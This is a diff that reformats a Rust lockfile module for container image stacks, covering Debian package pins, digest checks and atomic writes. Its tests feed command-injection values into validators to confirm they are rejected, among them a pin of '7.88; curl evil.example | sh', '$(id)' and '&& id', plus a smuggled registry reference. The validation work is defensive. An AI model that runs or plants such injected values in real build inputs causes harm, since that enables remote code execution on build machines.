@@ -88,7 +88,11 @@ impl LockEntry {
     /// Records a build that took `seconds`; a `cached` one (the image was already in the
     /// engine) took no real time, so the `previous` entry's time is kept instead.
     pub fn record_build_time(&mut self, seconds: f64, cached: bool, previous: Option<&LockEntry>) {
-        self.build_seconds = if cached { previous.and_then(|p| p.build_seconds) } else { Some(BuildTime::from_secs_f64(seconds)) };
+        self.build_seconds = if cached {
+            previous.and_then(|p| p.build_seconds)
+        } else {
+            Some(BuildTime::from_secs_f64(seconds))
+        };
     }
 }
 
@@ -114,11 +118,27 @@ impl Lockfile {
                 break; // a parent loop in an edited lock: stop rather than spin
             }
             chain.push(entry);
-            next = entry.parent.as_deref().filter(|p| self.stacks.contains_key(*p));
+            next = entry
+                .parent
+                .as_deref()
+                .filter(|p| self.stacks.contains_key(*p));
         }
         let recorded = chain.last().is_some_and(|root| !root.closure.is_empty());
         if !recorded {
-            let named = chain[0].packages.iter().map(|(p, v)| (p.clone(), PackageRecord { version: v.clone(), source: None, source_version: None })).collect();
+            let named = chain[0]
+                .packages
+                .iter()
+                .map(|(p, v)| {
+                    (
+                        p.clone(),
+                        PackageRecord {
+                            version: v.clone(),
+                            source: None,
+                            source_version: None,
+                        },
+                    )
+                })
+                .collect();
             return Some((named, true));
         }
         let mut set = BTreeMap::new();
@@ -143,7 +163,11 @@ impl Lockfile {
     }
 
     /// `field` of a stack's entry on top of its parent's, on top of its grandparent's, ….
-    fn merged_up_the_chain(&self, stack: &str, field: impl Fn(&LockEntry) -> &BTreeMap<String, String>) -> BTreeMap<String, String> {
+    fn merged_up_the_chain(
+        &self,
+        stack: &str,
+        field: impl Fn(&LockEntry) -> &BTreeMap<String, String>,
+    ) -> BTreeMap<String, String> {
         let mut chain: Vec<&LockEntry> = Vec::new();
         let mut next = Some(stack);
         while let Some(entry) = next.and_then(|n| self.stacks.get(n)) {
@@ -162,11 +186,23 @@ impl Lockfile {
 
     /// Reads a lock's text; `path` names it in errors (a file, or `REV:images.lock`).
     pub fn parse(text: &str, path: &Path) -> Result<Lockfile> {
-        let lock: Lockfile = toml::from_str(text).map_err(|e| Error::LockParse { path: path.to_path_buf(), message: e.message().trim().to_string() })?;
+        let lock: Lockfile = toml::from_str(text).map_err(|e| Error::LockParse {
+            path: path.to_path_buf(),
+            message: e.message().trim().to_string(),
+        })?;
         if lock.version != LOCK_VERSION {
-            return Err(Error::LockParse { path: path.to_path_buf(), message: format!("version {} is not the supported version {LOCK_VERSION}", lock.version) });
+            return Err(Error::LockParse {
+                path: path.to_path_buf(),
+                message: format!(
+                    "version {} is not the supported version {LOCK_VERSION}",
+                    lock.version
+                ),
+            });
         }
-        lock.check_pins().map_err(|message| Error::LockParse { path: path.to_path_buf(), message })?;
+        lock.check_pins().map_err(|message| Error::LockParse {
+            path: path.to_path_buf(),
+            message,
+        })?;
         Ok(lock)
     }
 
@@ -176,7 +212,9 @@ impl Lockfile {
         for (stack, entry) in &self.stacks {
             for (package, version) in &entry.pins {
                 if !crate::debian::is_package_name(package) {
-                    return Err(format!("stack `{stack}` pins `{package}`, which is not a Debian package name"));
+                    return Err(format!(
+                        "stack `{stack}` pins `{package}`, which is not a Debian package name"
+                    ));
                 }
                 if !crate::debian::is_version(version) {
                     return Err(format!("stack `{stack}` pins `{package}` to `{version}`, which is not a Debian version"));
@@ -196,11 +234,17 @@ impl Lockfile {
                 }
             }
             for (source, expression) in &entry.licenses {
-                if !crate::debian::is_package_name(source) || !crate::licenses::LicenseExpression::is_well_formed(expression) {
+                if !crate::debian::is_package_name(source)
+                    || !crate::licenses::LicenseExpression::is_well_formed(expression)
+                {
                     return Err(format!("stack `{stack}` gives the source package `{source}` the licence `{expression}`, which is not a Debian package name with an SPDX expression"));
                 }
             }
-            if let Some((key, version)) = entry.language_packages.iter().find(|(k, v)| !crate::language_packages::is_valid_entry(k, v)) {
+            if let Some((key, version)) = entry
+                .language_packages
+                .iter()
+                .find(|(k, v)| !crate::language_packages::is_valid_entry(k, v))
+            {
                 return Err(format!("stack `{stack}` lists the language package `{key}` = `{version}`, which is not `pypi:`, `npm:`, `gem:` or `composer:` and a name and version that manager allows"));
             }
             for (field, value) in [("digest", &entry.digest), ("sbom", &entry.sbom)] {
@@ -209,7 +253,11 @@ impl Lockfile {
                 }
             }
             for key in entry.closure.keys().chain(&entry.closure_removed) {
-                let ok = key.split_once(':').is_some_and(|(name, arch)| crate::debian::is_package_name(name) && !arch.is_empty() && arch.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'));
+                let ok = key.split_once(':').is_some_and(|(name, arch)| {
+                    crate::debian::is_package_name(name)
+                        && !arch.is_empty()
+                        && arch.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
+                });
                 if !ok {
                     return Err(format!("stack `{stack}`'s closure names `{key}`, which is not `package:architecture`"));
                 }
@@ -232,12 +280,18 @@ impl Lockfile {
             .prefix(".images.lock.")
             .tempfile_in(dir)
             .map_err(|e| Error::io("create a temporary file in", dir, e))?;
-        tmp.write_all(self.to_text().as_bytes()).map_err(|e| Error::io("write", tmp.path().to_path_buf(), e))?;
+        tmp.write_all(self.to_text().as_bytes())
+            .map_err(|e| Error::io("write", tmp.path().to_path_buf(), e))?;
         // A temporary file is created 0600; the lock is a shared, committed file.
         use std::os::unix::fs::PermissionsExt;
-        tmp.as_file().set_permissions(std::fs::Permissions::from_mode(0o644)).map_err(|e| Error::io("set the mode of", tmp.path().to_path_buf(), e))?;
-        tmp.as_file().sync_all().map_err(|e| Error::io("sync", tmp.path().to_path_buf(), e))?;
-        tmp.persist(path).map_err(|e| Error::io("replace", path, e.error))?;
+        tmp.as_file()
+            .set_permissions(std::fs::Permissions::from_mode(0o644))
+            .map_err(|e| Error::io("set the mode of", tmp.path().to_path_buf(), e))?;
+        tmp.as_file()
+            .sync_all()
+            .map_err(|e| Error::io("sync", tmp.path().to_path_buf(), e))?;
+        tmp.persist(path)
+            .map_err(|e| Error::io("replace", path, e.error))?;
         if let Ok(d) = std::fs::File::open(dir) {
             let _ = d.sync_all();
         }
@@ -270,11 +324,18 @@ impl LockGuard {
         } else {
             match file.try_lock() {
                 Ok(()) => {}
-                Err(std::fs::TryLockError::WouldBlock) => return Err(Error::LockBusy { path: path.to_path_buf() }),
+                Err(std::fs::TryLockError::WouldBlock) => {
+                    return Err(Error::LockBusy {
+                        path: path.to_path_buf(),
+                    })
+                }
                 Err(std::fs::TryLockError::Error(e)) => return Err(Error::io("lock", path, e)),
             }
         }
-        Ok(LockGuard { file, path: path.to_path_buf() })
+        Ok(LockGuard {
+            file,
+            path: path.to_path_buf(),
+        })
     }
 }
 
@@ -287,7 +348,12 @@ impl Drop for LockGuard {
 /// `sha256:` and 64 lowercase hex digits: the only digest form a lock may name (an edited lock
 /// must not smuggle another reference into a pull).
 fn is_sha256_digest(text: &str) -> bool {
-    text.strip_prefix("sha256:").is_some_and(|hex| hex.len() == 64 && hex.bytes().all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b)))
+    text.strip_prefix("sha256:").is_some_and(|hex| {
+        hex.len() == 64
+            && hex
+                .bytes()
+                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
+    })
 }
 
 #[cfg(test)]
@@ -297,10 +363,27 @@ mod tests {
     #[test]
     fn digests_must_be_sha256() {
         let good = format!("sha256:{}", "0a".repeat(32));
-        let text = |field: &str, value: &str| format!("version = 1\n[stacks.worker]\nhash = \"sha256:00\"\n{field} = {value:?}\n");
-        assert_eq!(read_text(&text("digest", &good)).unwrap().unwrap().stacks["worker"].digest.as_deref(), Some(good.as_str()));
-        assert_eq!(read_text(&text("sbom", &good)).unwrap().unwrap().stacks["worker"].sbom.as_deref(), Some(good.as_str()));
-        for bad in ["latest", "sha256:0a", "sha256:0A0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a", "registry.example/evil@sha256:00"] {
+        let text = |field: &str, value: &str| {
+            format!("version = 1\n[stacks.worker]\nhash = \"sha256:00\"\n{field} = {value:?}\n")
+        };
+        assert_eq!(
+            read_text(&text("digest", &good)).unwrap().unwrap().stacks["worker"]
+                .digest
+                .as_deref(),
+            Some(good.as_str())
+        );
+        assert_eq!(
+            read_text(&text("sbom", &good)).unwrap().unwrap().stacks["worker"]
+                .sbom
+                .as_deref(),
+            Some(good.as_str())
+        );
+        for bad in [
+            "latest",
+            "sha256:0a",
+            "sha256:0A0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a",
+            "registry.example/evil@sha256:00",
+        ] {
             let err = read_text(&text("digest", bad)).unwrap_err();
             assert!(err.to_string().ends_with(&format!("stack `worker` has the digest `{bad}`, which is not a `sha256:` and 64 hex digits")), "{err}");
         }
@@ -319,7 +402,9 @@ mod tests {
 
     #[test]
     fn pins_must_be_debian_versions() {
-        let lock = read_text(&lock_with_pin("curl", "7.88.1-10+deb12u8")).unwrap().unwrap();
+        let lock = read_text(&lock_with_pin("curl", "7.88.1-10+deb12u8"))
+            .unwrap()
+            .unwrap();
         assert_eq!(lock.stacks["worker"].pins["curl"], "7.88.1-10+deb12u8");
         let err = read_text(&lock_with_pin("curl", "7.88; curl evil.example | sh")).unwrap_err();
         assert!(
@@ -327,29 +412,63 @@ mod tests {
             "{err}"
         );
         let err = read_text(&lock_with_pin("curl $(id)", "1.0")).unwrap_err();
-        assert!(err.to_string().ends_with("stack `worker` pins `curl $(id)`, which is not a Debian package name"), "{err}");
-        let deps = |dep: &str, version: &str| format!("version = 1\n[stacks.worker]\nhash = \"sha256:00\"\n[stacks.worker.dependency_pins.python3]\n{dep:?} = {version:?}\n");
-        let lock = read_text(&deps("libssl3", "3.0.17-1~deb12u2")).unwrap().unwrap();
-        assert_eq!(lock.stacks["worker"].dependency_pins["python3"]["libssl3"], "3.0.17-1~deb12u2");
-        assert!(lock.to_text().contains("[stacks.worker.dependency_pins.python3]\nlibssl3 = \"3.0.17-1~deb12u2\"\n"), "{}", lock.to_text());
+        assert!(
+            err.to_string()
+                .ends_with("stack `worker` pins `curl $(id)`, which is not a Debian package name"),
+            "{err}"
+        );
+        let deps = |dep: &str, version: &str| {
+            format!("version = 1\n[stacks.worker]\nhash = \"sha256:00\"\n[stacks.worker.dependency_pins.python3]\n{dep:?} = {version:?}\n")
+        };
+        let lock = read_text(&deps("libssl3", "3.0.17-1~deb12u2"))
+            .unwrap()
+            .unwrap();
+        assert_eq!(
+            lock.stacks["worker"].dependency_pins["python3"]["libssl3"],
+            "3.0.17-1~deb12u2"
+        );
+        assert!(
+            lock.to_text().contains(
+                "[stacks.worker.dependency_pins.python3]\nlibssl3 = \"3.0.17-1~deb12u2\"\n"
+            ),
+            "{}",
+            lock.to_text()
+        );
         let err = read_text(&deps("libssl3", "3.0 && id")).unwrap_err();
         assert!(err.to_string().ends_with("stack `worker` pins `libssl3` (a dependency of `python3`) to `3.0 && id`, which is not a Debian version"), "{err}");
         let err = read_text(&deps("libssl3;id", "3.0")).unwrap_err();
-        assert!(err.to_string().ends_with("which is not a Debian package name"), "{err}");
+        assert!(
+            err.to_string()
+                .ends_with("which is not a Debian package name"),
+            "{err}"
+        );
     }
 
     #[test]
     fn a_build_records_its_time_and_a_cached_one_keeps_the_previous() {
-        let previous = LockEntry { build_seconds: Some(BuildTime::from_tenths(2057)), ..LockEntry::default() };
+        let previous = LockEntry {
+            build_seconds: Some(BuildTime::from_tenths(2057)),
+            ..LockEntry::default()
+        };
         let mut entry = LockEntry::default();
         entry.record_build_time(0.04, true, Some(&previous));
         assert_eq!(entry.build_seconds, Some(BuildTime::from_tenths(2057)));
         entry.record_build_time(0.04, true, None);
-        assert_eq!(entry.build_seconds, None, "nothing measured, nothing invented");
+        assert_eq!(
+            entry.build_seconds, None,
+            "nothing measured, nothing invented"
+        );
         entry.record_build_time(63.84, false, Some(&previous));
         assert_eq!(entry.build_seconds, Some(BuildTime::from_tenths(638)));
-        let lock = Lockfile { version: LOCK_VERSION, stacks: BTreeMap::from([("base".to_string(), entry)]) };
-        assert!(lock.to_text().contains("build_seconds = 63.8\n"), "{}", lock.to_text());
+        let lock = Lockfile {
+            version: LOCK_VERSION,
+            stacks: BTreeMap::from([("base".to_string(), entry)]),
+        };
+        assert!(
+            lock.to_text().contains("build_seconds = 63.8\n"),
+            "{}",
+            lock.to_text()
+        );
     }
 
     #[test]
@@ -357,9 +476,20 @@ mod tests {
         use std::os::unix::fs::PermissionsExt;
         let dir = tempfile::tempdir().unwrap();
         let path = dir.path().join("images.lock");
-        Lockfile { version: LOCK_VERSION, stacks: BTreeMap::new() }.write_atomic(&path).unwrap();
-        assert_eq!(std::fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o644);
-        let names: Vec<_> = std::fs::read_dir(dir.path()).unwrap().map(|e| e.unwrap().file_name()).collect();
+        Lockfile {
+            version: LOCK_VERSION,
+            stacks: BTreeMap::new(),
+        }
+        .write_atomic(&path)
+        .unwrap();
+        assert_eq!(
+            std::fs::metadata(&path).unwrap().permissions().mode() & 0o777,
+            0o644
+        );
+        let names: Vec<_> = std::fs::read_dir(dir.path())
+            .unwrap()
+            .map(|e| e.unwrap().file_name())
+            .collect();
         assert_eq!(names, ["images.lock"], "no temporary file is left behind");
     }
 }
